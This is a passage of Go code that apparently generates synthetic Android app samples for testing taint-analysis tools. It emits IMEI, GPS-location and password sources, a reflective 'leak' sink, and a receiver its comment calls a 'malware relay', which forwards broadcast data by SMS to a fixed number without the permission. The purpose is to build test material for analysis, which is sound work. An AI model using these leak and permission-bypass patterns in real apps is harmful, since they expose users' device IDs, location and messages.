		it, cn, clz := g.fresh("it"), g.fresh("cn"), g.fresh("clz")
		fmt.Fprintf(&g.code, "    %s = this.getIntent()\n", it)
		fmt.Fprintf(&g.code, "    %s = %s.getStringExtra(\"cls\")\n", cn, it)
		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%s)\n", clz, cn)
		g.emitReflectInvoke(clz, w)
	}
}

// emitReflectInvoke writes the newInstance/getMethod/invoke tail of a
// reflective chain, passing val through the invoke boxing boundary.
func (g *gen) emitReflectInvoke(clz, val string) {
	g.needReflSink = true
	obj, mth, rr := g.fresh("obj"), g.fresh("mth"), g.fresh("rr")
	fmt.Fprintf(&g.code, "    %s = %s.newInstance()\n", obj, clz)
	fmt.Fprintf(&g.code, "    %s = %s.getMethod(\"leak\")\n", mth, clz)
	fmt.Fprintf(&g.code, "    %s = %s.invoke(%s, %s)\n", rr, mth, obj, val)
}

// emitReflSink writes the reflective call target: an ordinary class
// whose leak method logs its argument. It is only ever reached through
// the bridges the constant-propagation pass materializes.
func (g *gen) emitReflSink() {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.ReflSink {\n", g.pkg)
	g.code.WriteString("  method leak(msg: java.lang.String): void {\n")
	g.code.WriteString("    android.util.Log.i(\"refl\", msg)\n")
	g.code.WriteString("    return\n  }\n}\n")
}

// imei emits the device-id source and returns the local holding it.
func (g *gen) imei() string {
	raw, tm, id := g.fresh("raw"), g.fresh("tm"), g.fresh("id")
	fmt.Fprintf(&g.code, "    %s = this.getSystemService(\"phone\")\n", raw)
	fmt.Fprintf(&g.code, "    local %s: android.telephony.TelephonyManager\n", tm)
	fmt.Fprintf(&g.code, "    %s = (android.telephony.TelephonyManager) %s\n", tm, raw)
	fmt.Fprintf(&g.code, "    %s = %s.getDeviceId()\n", id, tm)
	return id
}

// location emits the location source.
func (g *gen) location() string {
	raw, lm, lc, s := g.fresh("raw"), g.fresh("lm"), g.fresh("lc"), g.fresh("ls")
	fmt.Fprintf(&g.code, "    %s = this.getSystemService(\"location\")\n", raw)
	fmt.Fprintf(&g.code, "    local %s: android.location.LocationManager\n", lm)
	fmt.Fprintf(&g.code, "    %s = (android.location.LocationManager) %s\n", lm, raw)
	fmt.Fprintf(&g.code, "    %s = %s.getLastKnownLocation(\"gps\")\n", lc, lm)
	fmt.Fprintf(&g.code, "    %s = %s.toString()\n", s, lc)
	return s
}

func (g *gen) emitService(name string, nHelpers int, stmts minMax) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.%s extends android.app.Service {\n", g.pkg, name)
	g.code.WriteString("  method onStartCommand(i: android.content.Intent): void {\n")
	g.emitNoise(stmts)
	g.code.WriteString("    return\n  }\n}\n")
}

func (g *gen) emitReceiver(name string, relay bool) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.%s extends android.content.BroadcastReceiver {\n", g.pkg, name)
	g.code.WriteString("  method onReceive(c: android.content.Context, i: android.content.Intent): void {\n")
	if relay {
		// The malware relay: data received via broadcast is forwarded by
		// SMS, letting other apps send texts without the permission.
		d, s := g.fresh("d"), g.fresh("sm")
		fmt.Fprintf(&g.code, "    %s = i.getStringExtra(\"payload\")\n", d)
		fmt.Fprintf(&g.code, "    %s = android.telephony.SmsManager.getDefault()\n", s)
		fmt.Fprintf(&g.code, "    %s.sendTextMessage(\"+7 901\", null, %s, null, null)\n", s, d)
	}
	g.code.WriteString("    return\n  }\n}\n")
}

func (g *gen) files(comps []string) map[string]string {
	var mf strings.Builder
	fmt.Fprintf(&mf, "<manifest package=%q>\n  <application>\n", g.pkg)
	for i, c := range comps {
		kind, name, _ := strings.Cut(c, ":")
		main := ""
		if i == 0 {
			main = "<intent-filter><action android:name=\"android.intent.action.MAIN\"/></intent-filter>"
		}
		fmt.Fprintf(&mf, "    <%s android:name=\".%s\">%s</%s>\n", kind, name, main, kind)
	}
	mf.WriteString("  </application>\n</manifest>\n")
	files := map[string]string{
		"AndroidManifest.xml": mf.String(),
		"classes.ir":          g.code.String(),
	}
	if g.needPwd {
		files["res/layout/main.xml"] = `<LinearLayout>
  <EditText android:id="@+id/pwd" android:inputType="textPassword"/>
</LinearLayout>`
	}
	return files
}
